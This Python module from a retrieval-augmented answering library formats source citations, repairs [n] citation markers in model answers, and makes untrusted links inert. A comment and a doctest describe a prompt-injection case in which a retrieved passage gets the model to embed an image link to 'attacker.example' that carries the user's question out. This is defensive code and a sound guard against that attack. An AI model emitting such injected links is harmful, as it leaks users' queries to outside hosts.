"""Citations a user can open: where a chunk's text came from, as text and as a link.

Pure functions over :class:`ragsieve.types.Chunk` (and the ``SearchHit``/``to_dict`` forms of
it); nothing here reads files or the network. Ids and paths are never cut.

One scheme, so a chunk and a page are never confused:

* a **chunk id** is ``<path>:<n>``: the file relative to the ingested folder and the chunk's
  0-based position in it (``manual.pdf:3`` is the fourth chunk of ``manual.pdf``, on whatever
  page). Ids are what ``--json``, the trace and ``/v1/passages/{id}`` use;
* a **citation** is ``<path>#<place>``: ``manual.pdf#page=6`` for page 6 of a PDF (1-based, the
  fragment PDF viewers open at; its printed label added as ``(page iv)`` when it differs),
  ``guide/install.md#Install > Linux`` for a Markdown or HTML section, the record's address for
  a JSON/CSV row that has one, and the full chunk id otherwise. A citation never has the
  ``:<n>`` form, so a page number cannot be read as a chunk position or the other way round.

:func:`settle_citations` makes an answer's ``[n]`` markers trustworthy: markers that point at no
evidence are removed, and a sentence that states something without a marker is given the one
evidence passage that shares its words, or stays without a citation (renderers then say so).

Example:
    >>> from ragsieve.types import Chunk
    >>> chunk = Chunk(id="manual.pdf:3", text="...", doc_id="manual.pdf", source="manual.pdf",
    ...               path="manual.pdf", page=6, page_label="iv")
    >>> c = Citation.from_chunk(chunk)
    >>> format_citation(c)
    'manual.pdf#page=6 (page iv)'
    >>> citation_uri(c, "/data/corpus")
    'file:///data/corpus/manual.pdf#page=6'
"""

from __future__ import annotations

import re
from collections.abc import Sequence
from dataclasses import asdict, dataclass, field
from pathlib import PurePath, PurePosixPath
from typing import Any, Protocol
from urllib.parse import quote, urlparse

from ragsieve.lexicon import STOP_WORDS


class LocatedChunk(Protocol):
    """What a citation reads from a chunk (:class:`ragsieve.types.Chunk` has these fields);
    a protocol rather than an import, because ``ragsieve.types`` builds its ``citation``
    field with this module."""

    @property
    def id(self) -> str: ...
    @property
    def path(self) -> str | None: ...
    @property
    def page(self) -> int | None: ...
    @property
    def page_label(self) -> str | None: ...
    @property
    def heading(self) -> list[str] | None: ...
    @property
    def char_start(self) -> int | None: ...
    @property
    def char_end(self) -> int | None: ...
    @property
    def url(self) -> str | None: ...

__all__ = [
    "HEADING_SEPARATOR", "Citation", "InertLink", "InertText", "SettledCitations", "citation_uri", "evidence_documents",
    "format_citation", "inert_links", "marker_positions", "settle_citations", "split_cited_sentences",
]

# Joins a heading path (outermost first) in citations: ``guide.md#Install > Linux``.
HEADING_SEPARATOR = " > "
_WEB_SCHEMES = ("http", "https")


@dataclass(frozen=True)
class Citation:
    """Where one cited passage came from.

    ``path`` is relative to the ingested folder; ``page`` is 1-based (PDF) and ``page_label`` the
    label the PDF prints on that page; ``heading`` the section's heading path joined with
    :data:`HEADING_SEPARATOR`; ``start``/``end`` the passage's character span in the extracted
    text of its page (PDF) or document; ``url`` the record's original address.
    """

    chunk_id: str
    path: str | None = None
    page: int | None = None
    page_label: str | None = None
    heading: str | None = None
    start: int | None = None
    end: int | None = None
    url: str | None = None

    @classmethod
    def from_chunk(cls, chunk: LocatedChunk) -> Citation:
        heading = HEADING_SEPARATOR.join(h for h in chunk.heading or [] if h) or None
        return cls(
            chunk_id=chunk.id,
            path=chunk.path,
            page=chunk.page,
            page_label=chunk.page_label,
            heading=heading,
            start=chunk.char_start,
            end=chunk.char_end,
            url=chunk.url,
        )

    @classmethod
    def from_hit(cls, hit: Any) -> Citation:
        """From a :class:`ragsieve.types.SearchHit` or its ``to_dict()`` form (an ``evidence``
        entry of ``--json``)."""
        if not isinstance(hit, dict):
            return cls.from_chunk(hit.chunk)
        heading = hit.get("heading")
        if isinstance(heading, list):
            heading = HEADING_SEPARATOR.join(str(h) for h in heading if h) or None
        return cls(
            chunk_id=str(hit.get("id", "")),
            path=hit.get("path"),
            page=hit.get("page"),
            page_label=hit.get("page_label"),
            heading=heading,
            start=hit.get("char_start"),
            end=hit.get("char_end"),
            url=hit.get("url"),
        )

    def to_dict(self) -> dict[str, Any]:
        return asdict(self)


def format_citation(c: Citation) -> str:
    """The citation as a person reads it, never cut: ``path#page=N``, ``path#heading``, the URL or the id.

    A page label that differs from the page number is added (``manual.pdf#page=6 (page iv)``); a
    record with an address is cited by that address; anything without a known location by its
    whole chunk id.
    """
    if c.url and not c.path:
        return c.url
    if c.path is None:
        return c.url or c.chunk_id
    if c.page is not None:
        text = f"{c.path}#page={c.page}"
        if c.page_label and c.page_label != str(c.page):
            text += f" (page {c.page_label})"
        return text
    if c.heading:
        return f"{c.path}#{c.heading}"
    if c.url:
        return c.url
    # A record of a JSON/CSV file without an address: the id names the record inside the file.
    doc_part = c.chunk_id.rsplit(":", 1)[0]
    return doc_part if doc_part.startswith(c.path + "#") else c.path


def citation_uri(c: Citation, root: str | PurePath | None) -> str | None:
    """A link that opens the cited source, or ``None`` when there is none.

    The record's ``http(s)`` address when it has one; otherwise a ``file://`` URI of ``path``
    under ``root`` (the ingested folder), with ``#page=N`` for a PDF page (the fragment PDF
    viewers open at). ``root`` made absolute against the current folder if relative; no file
    is read, so the link may name a file that has since moved.
    """
    if c.url and urlparse(c.url).scheme.lower() in _WEB_SCHEMES:
        return c.url
    if c.path is None or root is None:
        return None
    base = PurePosixPath(_absolute(str(root)))
    rel = PurePosixPath(c.path)
    if rel.is_absolute() or ".." in rel.parts:
        return None  # not a path under the ingested folder
    uri = "file://" + quote(str(base / rel), safe="/:@!$&'()*+,;=-._~")
    if c.page is not None:
        uri += f"#page={c.page}"
    return uri


def _absolute(root: str) -> str:
    import os

    return os.path.abspath(root).replace(os.sep, "/")


# ---------------------------------------------------------------------- markers in an answer
_MARKER_RE = re.compile(r"\s*\[(\d{1,3})\]")
_ONLY_MARKERS_RE = re.compile(r"^(?:\s*\[\d{1,3}\])+\s*[.!?]?\s*$")
_LEADING_MARKERS_RE = re.compile(r"^(?:\s*\[\d{1,3}\])+\s*")
_WORD_RE = re.compile(r"[^\W_]+")
# Words that say nothing about which passage a sentence comes from: the one stop list, and the
# words an answer uses to talk about its evidence ("the passage states", "according to sources").
_STOP = STOP_WORDS | {"according", "evidence", "passage", "passages", "source", "sources", "stated", "states"}
# A sentence that says the evidence holds no answer states nothing to cite.
_DECLINE_RE = re.compile(
    r"\b(?:i (?:do not|don't|cannot|can't) (?:know|answer|say|tell)|no (?:answer|information)|not (?:stated|mentioned|"
    r"given|specified|provided)|does not (?:say|state|mention)|doesn't (?:say|state|mention))\b",
    re.IGNORECASE,
)
# An unmarked sentence is given a passage only when they share at least this many content words
# (or every content word of a sentence that has fewer): one shared common word is chance.
MIN_SHARED_WORDS = 2


def marker_positions(text: str) -> list[int]:
    """The evidence positions (1-based) of the ``[n]`` markers in ``text``, in order, each once.

    >>> marker_positions("Paris [2] is in France [1], [2].")
    [2, 1]
    """
    return list(dict.fromkeys(int(m.group(1)) for m in _MARKER_RE.finditer(text)))


def _content_words(text: str) -> set[str]:
    return {w for w in (m.group(0).lower() for m in _WORD_RE.finditer(text)) if w not in _STOP and len(w) > 1}


def states_something(sentence: str) -> bool:
    """Whether ``sentence`` (markers aside) states something a source should back: it has a
    content word and is not a refusal (``I don't know``)."""
    bare = _MARKER_RE.sub("", sentence)
    return bool(_content_words(bare)) and not _DECLINE_RE.search(bare)


def split_cited_sentences(text: str) -> list[str]:
    """The sentences of ``text`` with each ``[n]`` marker kept on the sentence it follows: a
    piece that is only markers (``X is Y. [1]``), and markers opening any sentence but the first
    (``X is Y. [1] Z is W.``), join the sentence before it.

    >>> split_cited_sentences("Paris is in France. [1] It is large [2].")
    ['Paris is in France. [1]', 'It is large [2].']
    """
    from ragsieve.text.sentences import split_sentences

    out: list[str] = []
    for piece in split_sentences(text):
        if out and _ONLY_MARKERS_RE.match(piece):
            out[-1] = out[-1] + " " + piece.strip()
            continue
        lead = _LEADING_MARKERS_RE.match(piece)
        if out and lead:  # "X is Y. [1] Z is W.": the [1] cites the sentence before it
            out[-1] = out[-1] + " " + lead.group(0).strip()
            piece = piece[lead.end() :]
        out.append(piece)
    return out


def _cite(sentence: str, position: int) -> str:
    """``sentence`` with ``[position]`` before its closing punctuation (as the answer prompt asks)."""
    text = sentence.rstrip()
    marker = f"[{position}]"
    if text[-1:] in (".", "!", "?"):
        return f"{text[:-1].rstrip()} {marker}{text[-1]}"
    return f"{text} {marker}"


@dataclass(frozen=True)
class SettledCitations:
    """An answer after :func:`settle_citations`: its text with every sentence's marker (``text``),
    the chunk ids its markers name (in order), the stray markers removed, the sentences that were
    given a marker, the sentences that state something yet cite nothing, and the answer with only
    the stray markers removed (``model_text``: the model's words, which the pipeline keeps as the
    answer so that exact-match scoring and log-probabilities of the answer do not change)."""

    text: str
    cited_ids: list[str]
    removed_markers: list[int] = field(default_factory=list)
    model_text: str = ""
    attributed: list[str] = field(default_factory=list)
    uncited: list[str] = field(default_factory=list)


def settle_citations(
    text: str, evidence: Sequence[tuple[str, str]], cited_ids: Sequence[str] = ()
) -> SettledCitations:
    """Make every ``[n]`` marker of an answer point at evidence and give unmarked sentences one.

    ``evidence`` is the answer's evidence as ``(chunk id, text)`` pairs in the order the prompt
    numbered them (``[1]`` is the first); ``cited_ids`` what the generator attributed without
    markers (its similarity attribution), preferred for an unmarked sentence. Steps:

    1. a marker ``[n]`` with no ``n``-th evidence is removed (it cites nothing the user can open);
    2. a sentence that states something (:func:`states_something`) but has no marker gets the
       marker of the passage sharing the most content words with it: among ``cited_ids`` when the
       generator attributed any (at least one shared word), else among all evidence when they share
       at least :data:`MIN_SHARED_WORDS` words; otherwise it stays uncited and is listed in ``uncited``;
    3. ``cited_ids`` of the result are the ids the markers name, in order of first appearance,
       plus any attributed id no sentence took (the generator's attribution is kept, not lost).

    A text that needs no change is returned as it was (list formatting and spacing intact).

    Example:
        >>> ev = [("a.md:0", "The restocking fee is 60 euros for opened items."), ("b.md:0", "Shipping is free.")]
        >>> s = settle_citations("The restocking fee is 60 euros. [3] Shipping costs nothing [2].", ev)
        >>> s.text
        'The restocking fee is 60 euros [1]. Shipping costs nothing [2].'
        >>> s.cited_ids, s.removed_markers
        (['a.md:0', 'b.md:0'], [3])
        >>> s.model_text  # what the pipeline keeps as the answer: only the stray marker gone
        'The restocking fee is 60 euros. Shipping costs nothing [2].'
    """
    n = len(evidence)
    removed = [int(m.group(1)) for m in _MARKER_RE.finditer(text) if not 1 <= int(m.group(1)) <= n]
    if removed:
        text = _MARKER_RE.sub(lambda m: m.group(0) if 1 <= int(m.group(1)) <= n else "", text).strip()
        text = re.sub(r"\s+([.,;:!?])", r"\1", text)
    model_text = text
    attributed: list[str] = []
    uncited: list[str] = []
    if n and text:
        ids = [cid for cid, _ in evidence]
        words = [_content_words(passage) for _, passage in evidence]
        preferred = [ids.index(cid) for cid in cited_ids if cid in ids]
        sentences = split_cited_sentences(text)
        rewritten: list[str] = []
        for sentence in sentences:
            if marker_positions(sentence) or not states_something(sentence):
                rewritten.append(sentence)
                continue
            mine = _content_words(sentence)
            shared = [len(mine & w) for w in words]
            pool = preferred or list(range(n))
            best = max(pool, key=lambda j: (shared[j], -pool.index(j)))
            # among the generator's attributed passages one shared word names the passage; among
            # all the evidence it takes MIN_SHARED_WORDS, so that chance does not cite
            needed = 1 if preferred else min(MIN_SHARED_WORDS, len(mine))
            if shared[best] >= needed:
                rewritten.append(_cite(sentence, best + 1))
                attributed.append(sentence)
            else:
                rewritten.append(sentence)
                uncited.append(sentence)
        if attributed:
            text = " ".join(rewritten)
    positions = marker_positions(text)
    ids_out = [evidence[p - 1][0] for p in positions]
    ids_out += [cid for cid in cited_ids if cid not in ids_out and any(cid == e[0] for e in evidence)]
    return SettledCitations(
        text=text, cited_ids=ids_out, removed_markers=removed, model_text=model_text, attributed=attributed,
        uncited=uncited,
    )


def settle_answer(
    text: str, evidence: Sequence[Any], cited_ids: Sequence[str], trace: Any = None, abstained: bool = False
) -> tuple[str, list[str]]:
    """:func:`settle_citations` on an answer's text and its evidence (``SearchHit``s), as the
    pipeline assembles the answer: returns the answer without its stray markers and the ids every
    sentence cites, and records a ``settle_citations`` event in ``trace`` (markers removed, each
    unmarked sentence with the source it was given, sentences citing nothing) when there is any.
    The markers given to unmarked sentences are not written into the answer (renderers show them:
    :func:`ragsieve.present.present_answer` settles the same text the same way), so the model's
    words are scored as they were. An abstention cites nothing and is returned as it is."""
    if abstained or not text:
        return text, list(cited_ids)
    pairs = [(hit.chunk.id, hit.chunk.text) for hit in evidence]
    settled = settle_citations(text, pairs, cited_ids)
    if trace is not None and (settled.removed_markers or settled.attributed or settled.uncited):
        trace.record(
            "settle_citations",
            removed_markers=settled.removed_markers,
            attributed=settled.attributed,
            uncited=settled.uncited,
        )
    return settled.model_text, settled.cited_ids


# ---------------------------------------------------------------------- links in an answer
# A retrieved passage can tell the model to put an image or a link in its answer whose address
# carries the question ("![x](https://attacker.example/leak?q=...)"): a client that renders the
# answer as Markdown fetches the image, or the reader clicks the link, and the address leaks.
# :func:`inert_links` leaves only the links a user can trust: to a document of the answer's
# evidence, or to a host the operator allows.
# a label may run over lines, not over a blank line (which ends the paragraph)
_LABEL = r"(?:\\.|\[(?:\\.|[^\[\]\\\n]|\n(?![ \t]*\n))*\]|[^\[\]\\\n]|\n(?![ \t]*\n))*"
_DEST = r"<[^<>\n]*>|[^\s()<>]*(?:\([^\s()]*\)[^\s()<>]*)*"
_TITLE = r"(?:\s+(?:\"[^\"\n]*\"|'[^'\n]*'|\([^()\n]*\)))?"
_INLINE_RE = re.compile(rf"(?<!\\)(?P<bang>!?)\[(?P<label>{_LABEL})\]\(\s*(?P<dest>{_DEST}){_TITLE}\s*\)")
_REF_USE_RE = re.compile(rf"(?<!\\)(?P<bang>!?)\[(?P<label>{_LABEL})\](?:\[(?P<ref>[^\[\]\n]*)\])?(?![(:\[])")
_REF_DEF_RE = re.compile(rf"^ {{0,3}}\[(?P<ref>[^\[\]\n]+)\]:[ \t]*(?P<dest><[^<>\n]*>|\S+){_TITLE}[ \t]*$\n?", re.M)
_AUTOLINK_RE = re.compile(r"<(?P<dest>[A-Za-z][A-Za-z0-9+.\-]{1,31}:[^\s<>]*|[\w.!#$%&'*+/=?^`{|}~-]+@[\w.-]+)>")
_HTML_RE = re.compile(r"<(?P<tag>[A-Za-z][\w-]*)\b[^<>]*?\b(?:src|href|srcset|poster|action|data)\s*=\s*"
                      r"(?P<q>[\"']?)(?P<dest>[^\"'\s<>]*)(?P=q)[^<>]*>", re.I)
_BARE_RE = re.compile(r"(?<![\w@/.\x00-])(?:(?:https?|ftp)://|www\.)[^\s<>\"'`\x00]+", re.I)
_TRAILING = ".,;:!?*_~'\")]"
_KEPT_RE = re.compile(r"\x00(\d+)\x00")


@dataclass(frozen=True)
class InertLink:
    """A link or image :func:`inert_links` made inert: its ``kind`` (``image``, ``link``,
    ``autolink``, ``url``, ``html``), the address as the answer gave it, and its host (or scheme)."""

    kind: str
    target: str
    host: str

    @property
    def reason(self) -> str:
        what = "showed an image from" if self.kind == "image" else "linked to"
        return f"the answer {what} an address outside the corpus: {self.host}"

    def to_dict(self) -> dict[str, str]:
        return {"kind": self.kind, "target": self.target, "host": self.host, "reason": self.reason}


@dataclass(frozen=True)
class InertText:
    """An answer after :func:`inert_links`: its text and what was made inert, in order."""

    text: str
    removed: list[InertLink] = field(default_factory=list)


def _host_of(target: str) -> str:
    parsed = urlparse(target.strip())
    host = (parsed.hostname or "").rstrip(".").lower()
    if host:
        return host
    if "@" in target and not parsed.scheme:
        return target.rpartition("@")[2].lower()
    if parsed.scheme:
        return f"{parsed.scheme.lower()}:"
    return parsed.path[:60] or "?"  # a relative address: its path, without the query


def _defanged(target: str) -> str:
    """``target`` as text no renderer makes a link of: the host with its dots as ``[.]``, and
    ``/…`` for whatever followed it (a path or query can carry the question)."""
    host = _host_of(target).replace(".", "[.]")
    rest = urlparse(target.strip())
    if not rest.hostname:
        return host + ("…" if rest.query or rest.fragment else "")
    more = bool(rest.path.strip("/") or rest.query or rest.fragment)
    return host + ("/…" if more else "")


def _unquoted(target: str) -> str:
    from urllib.parse import unquote

    target = target.strip()
    if target.startswith("<") and target.endswith(">"):
        target = target[1:-1]
    return unquote(target).split("#", 1)[0].rstrip("/")


class _LinkPolicy:
    """Which addresses an answer may link to: its evidence's documents and the allowed hosts."""

    def __init__(self, documents: Sequence[str], allow_hosts: Sequence[str]) -> None:
        self.documents = {_unquoted(d) for d in documents if d and d.strip()}
        self.documents |= {d.removeprefix("./") for d in self.documents}
        self.paths = {d for d in self.documents if not urlparse(d).scheme}
        self.hosts = {h.strip().lower().rstrip(".") for h in allow_hosts if h and h.strip()}

    def allows(self, target: str) -> bool:
        plain = _unquoted(target)
        if plain in self.documents or plain.removeprefix("./") in self.documents:
            return True
        parsed = urlparse(plain)
        if parsed.scheme.lower() == "file" and any(parsed.path.endswith("/" + p) for p in self.paths):
            return True
        host = (parsed.hostname or "").rstrip(".").lower()
        if not host or parsed.scheme.lower() not in ("http", "https", ""):
            return False
        return any(host == h or (h.startswith("*.") and host.endswith(h[1:])) for h in self.hosts)


def evidence_documents(evidence: Sequence[Any]) -> list[str]:
    """The documents an answer may link to: each evidence passage's address (``url``) and its
    file (``path``), from ``SearchHit``s, chunks or their ``to_dict()`` forms."""
    out: list[str] = []
    for hit in evidence:
        c = Citation.from_hit(hit) if isinstance(hit, dict) or hasattr(hit, "chunk") else Citation.from_chunk(hit)
        out += [d for d in (c.url, c.path) if d]
    return out


def inert_links(text: str, documents: Sequence[str] = (), allow_hosts: Sequence[str] = ()) -> InertText:
    """``text`` with every Markdown image and link to an address outside the corpus made inert.

    ``documents`` are what the answer may link to (:func:`evidence_documents`: its evidence's
    ``url`` and ``path``, a ``#fragment`` aside); ``allow_hosts`` the operator's hosts (exact,
    case-insensitive; ``*.example.org`` allows its subdomains). Anything else is made inert: an
    image (inline ``![alt](…)``, reference ``![alt][ref]``, or an HTML tag) becomes
    ``[image: alt]``; a link (inline, reference-style, ``<autolink>``, a bare ``https://``/
    ``www.`` address, an HTML tag) becomes its label with the host as plain text,
    ``label (attacker[.]example/…)``: the host with its dots as ``[.]`` and the path and query
    (where the question would leak) left out. A reference definition to an outside address is
    removed. Text with nothing to make inert is returned unchanged.

    The edits are made on the text as written (the answer keeps its layout); then the result is
    parsed with markdown-it (CommonMark) and, should a link or image it finds still point outside
    (syntax the edits did not foresee), every ``[``, ``]``, ``<`` and ``>`` is escaped so that
    no link or image can form.

    Examples:
        >>> r = inert_links("See ![x](https://attacker.example/leak?q=secret) and [the guide](guide.md).",
        ...                 documents=["guide.md"])
        >>> r.text
        'See [image: x] and [the guide](guide.md).'
        >>> [x.reason for x in r.removed]
        ['the answer showed an image from an address outside the corpus: attacker.example']
    """
    if not text or not any(s in text for s in ("[", "<", "://", "www.", "WWW.")):
        return InertText(text)
    policy = _LinkPolicy(documents, allow_hosts)
    removed: list[InertLink] = []
    kept: list[str] = []

    def keep(original: str) -> str:
        kept.append(original)
        return f"\x00{len(kept) - 1}\x00"

    def drop(kind: str, target: str, label: str, image: bool) -> str:
        target = target.strip().removeprefix("<").removesuffix(">")
        removed.append(InertLink("image" if image else kind, target, _host_of(target)))
        label = label.strip()
        if image:
            return f"[image: {label}]" if label else "[image]"
        return f"{label} ({_defanged(target)})" if label else _defanged(target)

    def inline(m: re.Match[str]) -> str:
        if policy.allows(m.group("dest")):
            return keep(m.group(0))
        return drop("link", m.group("dest"), m.group("label"), bool(m.group("bang")))

    defs: dict[str, str] = {}
    for m in _REF_DEF_RE.finditer(text):
        defs.setdefault(" ".join(m.group("ref").split()).lower(), m.group("dest"))
    bad = {ref: dest for ref, dest in defs.items() if not policy.allows(dest)}

    def reference(m: re.Match[str]) -> str:
        ref = m.group("ref") or m.group("label")
        dest = bad.get(" ".join(ref.split()).lower())
        if dest is None:
            return m.group(0)
        return drop("link", dest, m.group("label"), bool(m.group("bang")))

    def definition(m: re.Match[str]) -> str:
        return "" if " ".join(m.group("ref").split()).lower() in bad else m.group(0)

    def autolink(m: re.Match[str]) -> str:
        dest = m.group("dest")
        return keep(m.group(0)) if policy.allows(dest) else drop("autolink", dest, "", False)

    def html(m: re.Match[str]) -> str:
        if policy.allows(m.group("dest")):
            return m.group(0)
        alt = re.search(r"\balt\s*=\s*([\"'])(.*?)\1", m.group(0), re.I)
        if m.group("tag").lower() == "img":
            return drop("html", m.group("dest"), alt.group(2) if alt else "", True)
        removed.append(InertLink("html", m.group("dest"), _host_of(m.group("dest"))))
        return ""

    def bare(m: re.Match[str]) -> str:
        url = m.group(0)
        body = url.rstrip(_TRAILING)
        tail = url[len(body):]
        if policy.allows(body if "://" in body else "http://" + body):
            return url
        return drop("url", body if "://" in body else "http://" + body, "", False) + tail

    out = text
    for _ in range(3):  # a link around an image: the image first, then the link around it
        before = out
        out = _INLINE_RE.sub(inline, out)
        out = _REF_USE_RE.sub(reference, out)
        if out == before:
            break
    out = _REF_DEF_RE.sub(definition, out)
    out = _HTML_RE.sub(html, out)
    out = _AUTOLINK_RE.sub(autolink, out)
    out = _BARE_RE.sub(bare, out)
    while _KEPT_RE.search(out):
        out = _KEPT_RE.sub(lambda m: kept[int(m.group(1))], out)
    if _outside_links(out, policy):
        out = re.sub(r"([\[\]<>])", r"\\\1", out)
    return InertText(out if removed or out != text else text, removed)


def _outside_links(text: str, policy: _LinkPolicy) -> bool:
    """Whether a CommonMark renderer would still find a link or image to an outside address in ``text``."""
    from markdown_it import MarkdownIt

    tokens = MarkdownIt("commonmark").parse(text)
    for block in tokens:
        for tok in block.children or []:
            target = tok.attrs.get("href") if tok.type == "link_open" else tok.attrs.get("src")
            if tok.type in ("link_open", "image") and not policy.allows(str(target or "")):
                return True
    return False
